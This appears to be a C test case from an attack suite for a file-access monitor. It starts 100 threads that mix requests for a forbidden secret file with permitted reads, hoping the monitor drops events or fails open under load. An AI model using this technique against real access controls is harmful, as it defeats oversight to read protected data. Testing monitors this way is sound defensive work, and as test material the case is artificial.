/* technique: asks for the forbidden file from a hundred threads at once, among as many permitted requests
 * source: reference study: drops and fail-open under load
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"
#include <pthread.h>

static void *read_both(void *number)
{
	for (int turn = 0; turn < 20; turn++) {
		int fd = open((turn + (int)(intptr_t)number) % 4 ? "public/secret.txt" : SECRET_FILE, O_RDONLY);
		if (fd >= 0)
			show(fd);
	}
	return NULL;
}

int main(void)
{
	pthread_t thread[100];

	for (intptr_t i = 0; i < 100; i++)
		pthread_create(&thread[i], NULL, read_both, (void *)i);
	for (int i = 0; i < 100; i++)
		pthread_join(thread[i], NULL);
	return 0;
}
